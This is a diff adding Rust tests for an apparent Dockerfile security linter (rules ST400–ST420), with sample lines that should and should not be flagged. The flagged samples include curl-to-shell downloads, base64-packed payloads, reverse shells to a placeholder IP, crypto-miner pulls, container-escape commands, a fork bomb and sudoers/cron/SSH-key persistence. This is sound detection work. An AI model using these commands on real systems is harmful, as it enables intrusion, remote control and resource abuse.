@@ -1,0 +1,378 @@
+//! ST400 to ST420: attacks, and what looks like them.
+
+use super::*;
+
+#[test]
+fn a_download_that_is_run_is_seen_however_it_gets_there() {
+    check_lines(
+        "ST400",
+        &[
+            "RUN curl https://e | sh",
+            "RUN curl -fsSL https://e | sudo -E bash -",
+            "RUN wget -qO- https://e | bash -s -- -y",
+            "RUN set -e; f(){ curl \"$1\"|sh; }; f https://e",
+            "RUN sh -c \"$(curl -fsSL https://e)\"",
+            "RUN bash -c \"`wget -O - https://e`\"",
+            "RUN eval \"$(curl https://e)\"",
+            "RUN bash <(curl https://e)",
+            "RUN . <(curl https://e)",
+            "RUN curl https://e | python3 -",
+            "RUN curl https://e | tee /log | sh",
+            "RUN curl https://e | tee >(sh)",
+            "RUN curl https://e | (cd /x && sh)",
+            "RUN curl https://e | { cat; } | bash",
+            "RUN curl https://e | { { { sh; a; b; c; d; } && e && f; }; g; h; i; j; k; l; m; n; o; p; q; r; s; t; u; v; }",
+            "RUN c\\url https://e | s'h'",
+            "RUN C=curl; $C https://e | sh",
+            "ENV S=sh\u{1}RUN curl https://e | $S",
+            "RUN <<EOF\ncurl https://e | sh\nEOF",
+            "RUN bash <<EOF\ncurl https://e | sh\nEOF",
+            "CMD [\"sh\", \"-c\", \"curl https://e | sh\"]",
+            "HEALTHCHECK CMD curl https://e | sh",
+            "RUN if a; then b; else curl https://e | sh; fi",
+            "RUN curl https://e | gunzip | sh",
+            "RUN $(curl https://e)",
+            "RUN x | xargs -I{} sh -c 'curl {} | sh'",
+            "RUN timeout 60 curl https://e | nice sh",
+            "RUN if a; then S=sh; fi; curl https://e | $S -",
+            "RUN echo 'curl https://e | sh' | sh",
+            "RUN printf \"curl https://e | bash\" | bash -s",
+            "RUN . /dev/stdin <<< \"$(curl https://e)\"",
+            "RUN curl -o /dev/stdout https://e | sh",
+            "RUN python3 -c \"from urllib.request import urlopen; exec(urlopen('https://e').read())\"",
+            "SHELL [\"sh\", \"-c\", \"curl https://e | sh\"]",
+            "COPY <<EOF /a\n#!/bin/sh\ncurl https://e | sh\nEOF",
+        ],
+        &[
+            "RUN echo \"curl x | sh\"",
+            "RUN echo 'curl https://e | sh' > /a",
+            "RUN curl https://e | sha256sum",
+            "RUN curl https://e | tar xz",
+            "RUN curl https://e -o /a && ls | sh /b",
+            "RUN cat <<'EOF' > /a\ncurl https://e | sh\nEOF",
+            "RUN a # curl https://e | sh",
+            "RUN curl https://e | sh-like",
+            "RUN curl https://e | python3 -c 'import json, sys; json.load(sys.stdin)'",
+            "RUN curl https://e | grep sh",
+            "RUN V=$(curl https://e) && sh /b",
+            "RUN bash -c \"V=$(curl https://e) && a\"",
+            "RUN curl -o /a https://e | sh",
+            "RUN curl https://e | $SUDO tar x",
+            "RUN echo 'curl https://e | sh' | sh /a",
+            "RUN echo 'curl https://e | sh' | cat",
+            "RUN echo '(' | sh",
+            "RUN curl https://e | $SUDO gpg --dearmor -o /a",
+            "COPY <<EOF /a\ncurl https://e | sh\nEOF",
+            "SHELL [\"sh\", \"-c\"]",
+            "RUN eval \"$(ssh-agent)\"",
+            "LABEL run=\"curl https://e | sh\"",
+        ],
+    );
+    assert_eq!(
+        underlined(
+            "ST400",
+            "FROM debian\nRUN a && \\\n  curl https://e \\\n  | sudo bash -\n"
+        ),
+        ["bash"]
+    );
+}
+
+#[test]
+fn a_downloaded_file_is_checked_before_it_is_run() {
+    check_lines(
+        "ST401",
+        &[
+            "RUN curl -o /tmp/x https://e/x && sh /tmp/x",
+            "RUN wget https://e/x.sh && chmod +x x.sh && ./x.sh",
+            "RUN curl -fsSLO https://e/a/x.sh; bash x.sh",
+            "RUN curl https://e > x && . ./x",
+            "RUN wget -O /x https://e && python3 /x --yes",
+            "RUN wget -O /x https://e && sh < /x",
+            "RUN wget -O /x https://e && cat /x | sh",
+        ],
+        &[
+            "RUN curl -o /tmp/x https://e/x && echo '0a  /tmp/x' | sha256sum -c && sh /tmp/x",
+            "RUN curl -O https://e/x && gpg --verify x.asc x && sh x",
+            "RUN curl -o /tmp/x https://e/x && sh /tmp/y",
+            "RUN curl -o /x.tar https://e/x.tar && tar xf /x.tar",
+            "RUN curl -o /x https://e/x && cat /x",
+        ],
+    );
+}
+
+#[test]
+fn packed_programs_are_seen_when_they_are_run() {
+    check_lines(
+        "ST402",
+        &[
+            "RUN echo aGk= | base64 -d | sh",
+            "RUN echo aGk= | base64 --decode | gunzip | bash",
+            "RUN eval \"$(echo aGk= | base64 -d)\"",
+            "RUN bash -c \"$(echo aGk= | base64 -di)\"",
+            "RUN echo 6869 | xxd -r -p | sh",
+            "RUN openssl base64 -d -in x | sh",
+            "RUN bash <<< \"$(base64 -d x)\"",
+            "RUN python3 -c \"import base64; exec(base64.b64decode('aGk='))\"",
+            "RUN perl -e 'use MIME::Base64; eval decode_base64(\"aGk=\")'",
+            "RUN printf '\\x65\\x63\\x68\\x6f' | sh",
+            "RUN curl https://e | base64 -d | sh",
+            "RUN ruby -e 'eval(\"aGk=\".unpack1(\"m\"))'",
+            "RUN echo hs | rev | sh",
+            "RUN $(echo bHM= | base64 -d)",
+        ],
+        &[
+            "RUN echo aGk= | base64 -d > /key",
+            "RUN echo hi | base64",
+            "RUN echo 'x | base64 -d | sh'",
+            "RUN eval \"$(pyenv init -)\"",
+            "RUN gunzip -c a.gz | mysql",
+            "RUN python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'",
+            "RUN K=$(echo aGk= | base64 -d) && a",
+            "RUN python3 -c 'import ast; print(ast.literal_eval(bytes.fromhex(\"31\").decode()))'",
+            "RUN node -e 'Buffer.from(\"x\"); /a/.exec(\"a\")'",
+            "RUN echo 'echo hi' | sh",
+        ],
+    );
+}
+
+#[test]
+fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
+    check_lines(
+        "ST403",
+        &[
+            "RUN bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "RUN bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
+            "RUN exec 5<>/dev/tcp/203.0.113.7/443; cat <&5",
+            "RUN cat < /dev/tcp/203.0.113.7/1 | sh",
+            "RUN nc -e /bin/sh 203.0.113.7 4444",
+            "RUN ncat 203.0.113.7 4444 --exec /bin/bash",
+            "RUN nc -nvc bash 203.0.113.7 4444",
+            "RUN mkfifo /f; cat /f | sh -i 2>&1 | nc 203.0.113.7 4444 > /f",
+            "RUN nc 203.0.113.7 4444 | sh",
+            "RUN socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty",
+            "RUN socat tcp-listen:1 exec:'bash -li'",
+            "RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+            "RUN perl -e 'use Socket; connect(S, sockaddr_in(1, inet_aton(\"e\"))); exec(\"/bin/sh -i\")'",
+            "CMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.7\", \"1\"]",
+            "RUN busybox nc 203.0.113.7 1 -e sh",
+            "RUN cat /f | sh -i | openssl s_client -connect e:1",
+        ],
+        &[
+            "RUN nc -z localhost 80",
+            "RUN nc -zve host 80",
+            "HEALTHCHECK CMD bash -c 'echo > /dev/tcp/127.0.0.1/80'",
+            "RUN bash -c \"exec 3<>/dev/tcp/localhost/80\"",
+            "RUN while ! echo > /dev/tcp/$HOST/80; do sleep 1; done",
+            "RUN echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
+            "RUN apt-get install -y netcat socat",
+            "RUN python3 -c 'import socket; socket.create_connection((\"localhost\", 1))'",
+            "RUN mkfifo /f && cat /f",
+            "RUN echo PING | nc localhost 6379",
+            "CMD socat TCP-LISTEN:1337,reuseaddr,fork EXEC:./program",
+            "RUN python3 -c 'import socket, subprocess; socket.socket().connect((\"localhost\", 1)); subprocess.run([\"a\"])'",
+        ],
+    );
+}
+
+#[test]
+fn miners_are_seen_where_they_run_or_are_fetched() {
+    check_lines(
+        "ST404",
+        &[
+            "RUN ./xmrig --donate-level 1",
+            "CMD [\"/opt/xmrig\", \"-c\", \"x\"]",
+            "RUN git clone https://github.com/xmrig/xmrig.git",
+            "RUN curl -LO https://github.com/xmrig/xmrig/releases/a.tar.gz",
+            "ENV POOL=stratum+tcp://e:3333",
+            "RUN a -o stratum+tcp://e:3333",
+            "RUN echo '{\"url\": \"stratum+tcp://e:1\"}' > config.json",
+            "RUN a --url pool.supportxmr.com:443",
+        ],
+        &[
+            "RUN echo xmrig stratum+tcp://e",
+            "RUN pkill xmrig",
+            "RUN grep -r stratum+tcp: /x",
+            "RUN make miner",
+            "RUN curl https://api.nicehash.com/v2",
+            "RUN git clone https://e.com/mine-rig.git",
+        ],
+    );
+}
+
+#[test]
+fn ways_out_are_seen_and_their_names_are_not() {
+    check_lines(
+        "ST405",
+        &[
+            "RUN nsenter -t 1 -m sh",
+            "RUN unshare -Urm",
+            "RUN unshare -r sh -c a",
+            "RUN insmod /x.ko",
+            "RUN modprobe x",
+            "RUN mknod /dev/x b 8 1",
+            "RUN mknod -m 600 /m c 1 1",
+            "RUN mount -t cgroup -o memory cgroup /x",
+            "RUN mount /dev/sda1 /x",
+            "RUN sysctl -w kernel.core_pattern=x",
+        ],
+        &[
+            "RUN mknod /x/dev/null c 1 3",
+            "RUN mknod /f p",
+            "RUN echo nsenter",
+            "RUN apt-get install -y kmod util-linux # modprobe",
+            "RUN command -v unshare",
+            "RUN mount -t tmpfs tmpfs /x",
+            "RUN which nsenter",
+            "RUN cdk synth",
+        ],
+    );
+}
+
+#[test]
+fn what_uses_a_resource_up_is_seen() {
+    check_lines(
+        "ST406",
+        &[
+            "RUN :(){ :|:& };:",
+            "RUN f() { f & f & }; f",
+            "RUN fallocate -l 100G /x",
+            "RUN dd if=/dev/zero of=/x bs=1M count=20000",
+            "RUN dd if=/dev/zero of=/x",
+            "RUN yes > /x",
+            "RUN cat /dev/urandom >> /x",
+            "RUN head -c 50G /dev/zero > /x",
+            "RUN stress-ng --cpu 8",
+        ],
+        &[
+            "RUN fallocate -l 10M /x",
+            "RUN dd if=/dev/zero of=/x bs=1M count=10",
+            "RUN yes | apt-get install a",
+            "RUN yes > /dev/null",
+            "RUN f() { a | b; }; f",
+            "RUN cat /dev/urandom | head -c 32 > /x",
+            "RUN truncate -s 0 /x",
+        ],
+    );
+}
+
+#[test]
+fn hooks_and_keys_are_seen_where_they_are_written() {
+    check_lines(
+        "ST407",
+        &[
+            "ENV LD_PRELOAD=/tmp/x.so",
+            "ENV BASH_ENV=/etc/x",
+            "ENV PATH=/tmp/bin:$PATH",
+            "ENV PATH .:$PATH",
+            "RUN echo /x.so > /etc/ld.so.preload",
+            "COPY x /etc/ld.so.preload",
+            "RUN LD_PRELOAD=./x.so a",
+            "ENV NODE_OPTIONS=\"--require /x.js\"",
+        ],
+        &[
+            "ENV LD_PRELOAD=/usr/lib/libjemalloc.so.2",
+            "ENV LD_PRELOAD=",
+            "ENV PATH=$PATH:/x",
+            "ENV PATH=/opt/x/bin:$PATH",
+            "ENV PATH=\"${PATH}:/x\"",
+            "ENV NODE_OPTIONS=--max-old-space-size=4096",
+            "RUN echo LD_PRELOAD=/tmp/x.so",
+        ],
+    );
+    check_lines(
+        "ST408",
+        &[
+            "RUN echo 'app ALL=NOPASSWD:ALL' >> /etc/sudoers",
+            "RUN echo x | tee -a /etc/sudoers.d/app",
+            "RUN cp key /root/.ssh/authorized_keys",
+            "COPY key /root/.ssh/authorized_keys",
+            "RUN echo '* * * * * root a' > /etc/cron.d/a",
+            "RUN (crontab -l; echo '* * * * * a') | crontab -",
+            "COPY a.cron /etc/cron.d/a",
+            "RUN sed -i 's/a/b/' /etc/sudoers",
+            "RUN install -m 755 a /etc/init.d/a",
+        ],
+        &[
+            "RUN cat /etc/sudoers",
+            "RUN echo 'see /etc/sudoers'",
+            "RUN crontab -l",
+            "COPY sudoers /etc/app/sudoers",
+            "RUN rm -f /etc/cron.d/a",
+            "RUN cp /etc/sudoers /backup",
+        ],
+    );
+}
+
+#[test]
+fn habits_of_another_kind_of_machine_are_told() {
+    check_lines(
+        "ST409",
+        &[
+            "HEALTHCHECK CMD curl https://e.com/ping",
+            "HEALTHCHECK CMD [\"wget\", \"-q\", \"http://e.com\"]",
+        ],
+        &[
+            "HEALTHCHECK CMD curl http://localhost/",
+            "HEALTHCHECK CMD curl http://127.0.0.1:80/",
+            "CMD curl https://e.com",
+        ],
+    );
+    check_lines(
+        "ST410",
+        &[
+            "RUN apt-get install -y docker-ce=1",
+            "RUN apk add docker",
+            "CMD dockerd",
+            "RUN docker run x",
+        ],
+        &[
+            "RUN apt-get install -y docker-compose-doc",
+            "RUN echo docker run",
+            "COPY docker /x",
+        ],
+    );
+    check_lines(
+        "ST454",
+        &[
+            "RUN top",
+            "RUN a && kill 1",
+            "RUN mount x",
+            "RUN sh -c 'service x start'",
+        ],
+        &["RUN apt-get install -y vim ssh", "CMD service x start", "RUN echo ps"],
+    );
+}
+
+#[test]
+fn shell_text_that_cannot_be_read_is_told_and_hides_nothing() {
+    check_lines(
+        "ST420",
+        &[
+            "RUN if a; then b",
+            "RUN echo 'a",
+            "RUN a | | b",
+            "RUN (a",
+            "RUN sh -c 'if'",
+            "RUN a $(b | )",
+            "RUN echo $'\\' ; curl https://e | sh ; echo '",
+        ],
+        &[
+            "RUN [[ a =~ ^(b|c)$ ]] && d",
+            "RUN case a in a) b;; (c) d;; esac",
+            "RUN echo ${a:-'}'} \"${a:-\\}}\"",
+            "RUN for ((i=0; i<3; i++)); do a; done",
+            "RUN a=(b c) && echo \"${a[@]}\" $((1 << 2))",
+            "RUN cat <<EOF\nit's $(a) `b`\nEOF",
+            "SHELL [\"bash\", \"-c\"]\u{1}RUN echo $'it\\'s'",
+            "RUN echo $'a\\n'",
+            "RUN powershell -Command Get-Item 'a",
+            "SHELL [\"powershell\", \"-Command\"]\u{1}RUN if (a) { b",
+        ],
+    );
+    let nested = format!(
+        "FROM debian\nRUN {}curl https://e | sh{}\n",
+        "a $(".repeat(40),
+        ")".repeat(40)
+    );
+    assert!(fired(&nested).contains("ST420"));
+}
